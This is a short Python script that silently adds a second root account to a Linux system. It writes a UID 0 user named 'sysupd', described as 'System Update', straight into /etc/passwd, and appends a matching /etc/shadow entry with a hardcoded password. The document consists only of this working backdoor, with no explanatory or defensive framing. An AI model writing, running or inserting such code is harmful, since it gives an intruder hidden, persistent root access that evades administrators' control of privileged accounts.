import crypt
import pathlib
import spwd

NAME = "sysupd"
rows = pathlib.Path("/etc/passwd").read_text().splitlines()
if not any(row.startswith(NAME + ":") for row in rows):
    rows.append(f"{NAME}:x:0:0:System Update:/var/lib/{NAME}:/bin/bash")
    pathlib.Path("/etc/passwd").write_text("\n".join(rows) + "\n")
    with open("/etc/shadow", "a") as shadow:
        shadow.write("%s:%s:19700:0:99999:7:::\n" % (NAME, crypt.crypt("Winter2024!", crypt.mksalt())))
print(spwd.getspnam(NAME).sp_namp)
